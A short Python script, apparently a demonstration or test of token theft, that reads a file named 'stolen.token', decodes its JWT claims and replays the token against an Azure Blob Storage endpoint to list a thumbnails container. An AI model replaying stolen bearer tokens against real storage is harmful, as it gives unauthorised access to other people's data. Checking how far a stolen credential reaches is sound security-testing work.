"""Lists the thumbnails with the stolen token, as any thief could."""

import base64
import json
import os
from pathlib import Path

import requests

token = Path(__file__).with_name("stolen.token").read_text().strip()
claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
answer = requests.get(
    f"{os.environ['AZURE_STORAGE_BLOB_ENDPOINT']}thumbnails?restype=container&comp=list",
    headers={"Authorization": f"Bearer {token}", "x-ms-version": "2025-11-05"},
    timeout=30,
)
print("The token is of the principal", claims["oid"])
print("Thumbnails:", answer.status_code, answer.headers.get("x-ms-error-code", "they are listed"))
